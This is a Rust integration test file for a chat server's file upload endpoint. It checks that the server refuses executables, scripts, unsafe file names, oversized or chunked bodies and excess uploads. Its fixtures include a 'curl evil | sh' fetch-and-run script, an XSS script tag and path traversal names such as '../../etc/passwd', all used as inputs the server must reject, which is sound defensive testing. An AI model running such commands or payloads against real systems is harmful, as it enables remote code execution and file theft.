//! What `POST P/upload` refuses, each with its own clear status: no token (401), not
//! multipart (415), a type off the allow-list or an executable or script whatever its
//! name (415), unsafe file names (400), too large (413: from `Content-Length` before any
//! of the body is read, or while counting the file), chunked bodies (411).

mod common;

use std::io::Write;

use common::chat::bearer;
use common::upload::{start, upload};
use common::{read_response, Server};

fn refused(answer: &common::HttpResponse, status: u16) -> String {
    assert_eq!(
        answer.status,
        status,
        "{}",
        String::from_utf8_lossy(&answer.body)
    );
    answer.json()["error"]
        .as_str()
        .expect("error text")
        .to_owned()
}

#[test]
fn types_are_decided_by_content() {
    let server = Server::start(&[("UPLOAD_RATE_LIMIT", "1000")]);
    let auth = bearer("dave");
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
    let text = refused(&upload(&server, &auth, "cat.png", elf), 415);
    assert_eq!(text, "Executables and scripts are not accepted");
    let script = b"#!/bin/sh\ncurl evil | sh\n";
    refused(&upload(&server, &auth, "cat.png", script), 415);
    let page = b"<html><body><script>alert(1)</script>";
    refused(&upload(&server, &auth, "cat.jpg", page), 415);
    // A real format, but not on the list.
    let tiff = b"II*\0\x08\0\0\0\x0e\0\0\x01\x03\0\x01\0\0\0";
    let text = refused(&upload(&server, &auth, "scan.tif", tiff), 415);
    assert_eq!(text, "File type not allowed");
    // Nothing was kept of any of them.
    let tmp = server.data_dir().join("uploads/.tmp");
    assert_eq!(std::fs::read_dir(tmp).expect("tmp").count(), 0);
}

#[test]
fn unsafe_names_are_refused() {
    let server = Server::start(&[("UPLOAD_RATE_LIMIT", "1000")]);
    let auth = bearer("erin");
    for name in [
        "../../etc/passwd",
        "a/b.txt",
        "a\\\\b.txt",
        "x\u{1}.txt",
        "..txt",
    ] {
        refused(&upload(&server, &auth, name, b"hello"), 400);
    }
}

#[test]
fn requests_refused_from_the_head() {
    let server = Server::start(&[("UPLOAD_MAX_SIZE", "1KiB")]);
    let answer = server.request(
        "POST",
        "/chatbox/upload",
        "Content-Type: multipart/form-data; boundary=x\r\n",
        "",
    );
    assert_eq!(refused(&answer, 401), "Invalid authorization header");
    let answer = server.request(
        "POST",
        "/chatbox/upload",
        &format!("{}Content-Type: application/json\r\n", bearer("f")),
        "{}",
    );
    refused(&answer, 415);

    // Declared too large: answered at once, before the body is sent.
    let mut stream = start(&server, &bearer("f"), 10 * 1024 * 1024);
    assert_eq!(
        refused(&read_response(&mut stream).expect("413"), 413),
        "Request body too large"
    );

    // Chunked bodies have no length to check up front.
    let mut stream = server.connect();
    write!(
        stream,
        "POST /chatbox/upload HTTP/1.1\r\nHost: t\r\n{}Content-Type: multipart/form-data; boundary=x\r\n\
         Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        bearer("f")
    )
    .expect("send");
    assert_eq!(read_response(&mut stream).expect("411").status, 411);
}

#[test]
fn a_file_over_the_limit_is_refused_while_counting() {
    // The body fits the declared limit (file plus form overhead), the file does not.
    let server = Server::start(&[("UPLOAD_MAX_SIZE", "1KiB")]);
    let answer = upload(&server, &bearer("gina"), "big.txt", &[b'a'; 1025]);
    assert_eq!(refused(&answer, 413), "File too large");
    let answer = upload(&server, &bearer("gina"), "fits.txt", &[b'a'; 1024]);
    assert_eq!(answer.status, 200);
}

#[test]
fn uploads_per_user_are_rate_limited() {
    let server = Server::start(&[("UPLOAD_RATE_LIMIT", "2")]);
    let auth = bearer("hank");
    for _ in 0..2 {
        assert_eq!(upload(&server, &auth, "a.txt", b"hi").status, 200);
    }
    let answer = upload(&server, &auth, "a.txt", b"hi");
    assert_eq!(answer.status, 429);
    assert!(answer.header("retry-after").is_some());
    // Another user has an allowance of their own.
    assert_eq!(upload(&server, &bearer("ivy"), "a.txt", b"hi").status, 200);
}
